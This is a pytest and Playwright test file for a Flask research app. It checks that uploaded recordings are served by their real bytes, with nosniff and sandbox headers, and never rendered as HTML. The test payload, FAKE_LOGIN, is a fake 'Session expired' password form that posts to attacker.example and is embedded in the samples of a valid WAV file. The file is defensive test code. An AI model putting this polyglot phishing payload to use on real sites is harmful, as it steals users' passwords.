"""Recordings are served as what their bytes are, never as what the uploader declared: a
WAV whose samples hold a web page, declared `text/html`, plays as audio and is never drawn
as a page on Fieldwork's origin (in a real Chromium too); a stored file that is not audio
goes out as a download."""

from __future__ import annotations

import io
import wave
from collections.abc import Callable
from io import BytesIO

import pytest
from flask.testing import FlaskClient
from playwright.sync_api import Page

from fieldwork.extensions import db
from fieldwork.models import Project, User
from fieldwork.storage import store_upload
from interviews.models import Interview
from interviews.recordings.models import Recording
from tests.conftest import LiveServer

#: what the interviewer's file drew on Fieldwork's own origin
FAKE_LOGIN = (b"<html><body><h1>Session expired</h1><form action='https://attacker.example/'>"
              b"<input name='password' type='password'><button>Log in again</button></form>"
              b"</body></html>")


def html_in_wav() -> bytes:
    """A valid WAV (8 kHz, 8 bits, 2 s) whose samples are a web page, over and over."""
    buffer = io.BytesIO()
    with wave.open(buffer, "wb") as out:
        out.setnchannels(1)
        out.setsampwidth(1)
        out.setframerate(8000)
        out.writeframes((FAKE_LOGIN * (16_000 // len(FAKE_LOGIN) + 1))[:16_000])
    return buffer.getvalue()


def upload_html_in_wav(upload_as: Callable[..., tuple[int, dict]],
                       interview: Interview) -> Recording:
    """Through the real upload, declared text/html; served as before its playback copy."""
    db.session.commit()
    status, answer = upload_as(interview, html_in_wav(), filename="interview.wav",
                               declared_type="text/html")
    assert status == 201, answer
    db.session.commit()  # a test marked committed then sees what the request committed
    recording = db.session.get(Recording, answer["recording_id"])
    recording.playback_file = None
    db.session.commit()
    return recording


def audio_url(project: Project, recording: Recording) -> str:
    return f"/projects/{project.id}/recordings/{recording.id}/audio"


def test_a_wav_declared_as_a_web_page_is_served_as_audio(
    client_for: Callable[[User | None], FlaskClient], upload_as: Callable[..., tuple[int, dict]],
    project: Project, people: dict[str, User], interview: Interview, files_dir: object,
) -> None:
    recording = upload_html_in_wav(upload_as, interview)
    assert recording.stored_file.content_type == "audio/wav"
    answer = client_for(people["viewer"]).get(audio_url(project, recording),
                                              headers={"Range": "bytes=0-99"})
    assert answer.status_code == 206
    assert answer.headers["Content-Type"] == "audio/wav"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["Content-Security-Policy"] == "sandbox"
    assert answer.headers["Content-Disposition"].startswith("inline;")


def test_a_stored_recording_that_is_not_audio_is_a_download(
    client_for: Callable[[User | None], FlaskClient], project: Project,
    people: dict[str, User], interview: Interview, files_dir: object,
) -> None:
    """A row stored before types were probed still says text/html: the bytes decide."""
    stored = store_upload(BytesIO(FAKE_LOGIN), "interview.wav", None)
    stored.content_type = "text/html"
    recording = Recording(project_id=project.id, interview_id=interview.id,
                          stored_file=stored, duration_s=2.0)
    db.session.add(recording)
    db.session.commit()
    answer = client_for(people["viewer"]).get(audio_url(project, recording))
    assert answer.status_code == 200
    assert answer.headers["Content-Type"].startswith("text/plain")
    assert answer.headers["Content-Disposition"] == (
        "attachment; filename=\"interview.wav\"; filename*=UTF-8''interview.wav")
    assert answer.headers["Content-Security-Policy"] == "sandbox"


@pytest.mark.committed
@pytest.mark.slow
def test_chromium_opening_the_audio_url_plays_it_and_draws_no_form(
    page: Page, live_server: LiveServer, upload_as: Callable[..., tuple[int, dict]],
    project: Project, people: dict[str, User], interview: Interview, files_dir: object,
) -> None:
    recording = upload_html_in_wav(upload_as, interview)
    url = audio_url(project, recording)
    live_server.log_in(page, people["viewer"])
    answer = page.goto(url)
    page.wait_for_load_state()
    assert page.locator("input, form, button").count() == 0
    assert "Session expired" not in page.content()
    assert page.locator("video, audio").count() == 1
    assert answer is not None and answer.headers["content-type"] == "audio/wav"
